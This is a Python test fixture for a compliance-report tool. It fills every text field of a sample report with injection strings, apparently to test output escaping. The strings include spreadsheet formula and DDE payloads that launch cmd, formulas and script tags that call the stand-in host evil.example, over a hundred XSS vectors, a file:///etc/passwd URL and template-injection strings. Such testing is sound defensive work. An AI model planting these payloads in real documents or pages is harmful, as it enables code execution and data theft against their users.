"""Texts that strangers could put where we show text, and a report that has them in every such place."""

from dataclasses import replace

from tests.sample_report import AS_OF, sample_report

from itss_bridge.model import Finding, Framework, Item, Report, Text

PAYLOADS = (
    "=1+1",
    '=HYPERLINK("https://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "'=1+1",
    '"=1+1',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML("https://evil.example","//a")',
    '=WEBSERVICE("https://evil.example")',
    "{=1+1}",
    "|calc",
    "%0A=1+1",
    "=1+1;=2+2",
    "INC001,=1+1",
    "INC001\r\n=1+1",
    "INC001\n@x",
    "_x003D_1+1",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    '<iframe src="https://evil.example"></iframe>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<!--",
    "]]>",
    '<!DOCTYPE x [<!ENTITY a "b">]>&a;',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "http://evil.example/x",
    "https://good.example@evil.example/",
    "//evil.example/x",
    'https://evil.example/" onclick="alert(1)',
    "{{ 7*7 }}{% raw %}",
    "\u202etxt.exe\u202c",
    "\ud800 half of a pair \x07",
)  # fmt: skip

XSS = (
    *PAYLOADS[32:43],
    *PAYLOADS[45:59],
    # elements that run, load or go somewhere by themselves
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<form action=javascript:alert(1)><input type=submit autofocus></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input type=image src=x onerror=alert(1)>",
    "<frameset onload=alert(1)>",
    "<table background=javascript:alert(1)></table>",
    "<keygen autofocus onfocus=alert(1)>",
    "<portal src=https://evil.example></portal>",
    "<dialog open onclose=alert(1)><form method=dialog><button></form></dialog>",
    "<input popovertarget=x><div id=x popover onbeforetoggle=alert(1)>",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "<area href=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    # out of text that the parser reads in another way
    "</textarea><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</xmp><img src=x onerror=alert(1)>",
    "<xmp><script>alert(1)</script>",
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<listing><img src=x onerror=alert(1)></listing>",
    "--><script>alert(1)</script>",
    "--!><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!ELEMENT x ANY><img src=x onerror=alert(1)>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=//evil.example/x.js>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<script type=importmap>{}</script>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "</style><style>body{display:none}",
    # foreign content
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    # out of attributes
    'x" onclick=alert(1) y="',
    "x' onfocus=alert(1) tabindex=0 autofocus y='",
    "` onmouseover=alert(1) `",
    "x onanimationstart=alert(1) style=animation:spin",
    '"style="position:fixed;inset:0"onpointerover="alert(1)',
    '"></i><script>alert(1)</script><i data-other="',
    "&quot; onclick=&quot;alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;svg onload=alert(1)&#x3e;",
    'x" id="main" name="body',
    # addresses
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(2)",
    "javascript&colon;alert(1)",
    "javascript://https://good.example/%0aalert(1)",
    "blob:https://evil.example/x",
    "view-source:https://evil.example/",
    "https://evil.example\\@good.example/",
    "https:/\\evil.example",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    # out of script, style, JSON and templates
    '"};alert(1);//',
    "'-alert(1)-'",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '</script>{"__proto__":{"x":1}}',
    "__proto__",
    "constructor.constructor('alert(1)')()",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "#{alert(1)}<%= alert(1) %>",
    "*/alert(1)/*",
    "expression(alert(1))",
    # Unicode
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u0131mg src=x onerror=alert(1)>",
    "\u2028alert(1)\u2029",
    "<img\u00a0src=x\u3000onerror=alert(1)>",
    "\u202e<script>alert(1)</script>",
)  # fmt: skip
"""A hundred and twenty texts that would be run, loaded or followed, each in another way, if they were ever markup."""


def infested_report(organisation: str = PAYLOADS[1]) -> Report:
    """A report with the payloads as ticket references, addresses, titles, reasons, notes, names and units."""
    report = sample_report(organisation=organisation, checks=14)
    texts = [Text(p, p) for p in PAYLOADS]
    assessment = report.assessment
    return replace(
        report,
        version=PAYLOADS[36],
        frameworks=tuple(_framework(f, texts) for f in report.frameworks),
        crosswalks=tuple(
            replace(w, title=texts[2], mappings=tuple(
                replace(m, rationale=texts[i % 60], reviewer=PAYLOADS[(i + 7) % 60]) for i, m in enumerate(w.mappings)
            ))
            for w in report.crosswalks
        ),
        metrics={name: replace(m, title=texts[i]) for i, (name, m) in enumerate(report.metrics.items())},
        assessment=replace(
            assessment,
            findings={name: _finding(f, texts[i % 60]) for i, (name, f) in enumerate(assessment.findings.items())},
            measurements=tuple(
                replace(m, unknown=PAYLOADS[i % 60], arguments={"x": PAYLOADS[i % 60]}, excluded={PAYLOADS[i]: 1}, unit=PAYLOADS[4])
                for i, m in enumerate(assessment.measurements)
            ),
        ),
        streams=tuple(
            replace(s, source=PAYLOADS[i], reason=PAYLOADS[-i - 1], head=PAYLOADS[i + 20], stream=PAYLOADS[i + 32])
            for i, s in enumerate(report.streams)
        ),
        notes=tuple(texts),
    )  # fmt: skip


def _framework(framework: Framework, texts: list[Text]) -> Framework:
    requirements = tuple(
        replace(r, title=texts[i % 60], intent=texts[(i + 1) % 60]) for i, r in enumerate(framework.requirements)
    )
    return replace(framework, title=texts[0], requirements=requirements)


def _finding(finding: Finding, text: Text) -> Finding:
    checks = tuple(
        replace(
            c,
            reason=text.en,
            check=replace(c.check, title=text),
            measurement=replace(c.measurement, failing=_items()) if c.measurement else None,
        )
        for c in finding.checks
    )
    return replace(finding, checks=checks, reason=text)


def _items() -> tuple[Item, ...]:
    return tuple(Item(p, p, p, 1.0, met=False, excluded=None, at=AS_OF) for p in PAYLOADS)
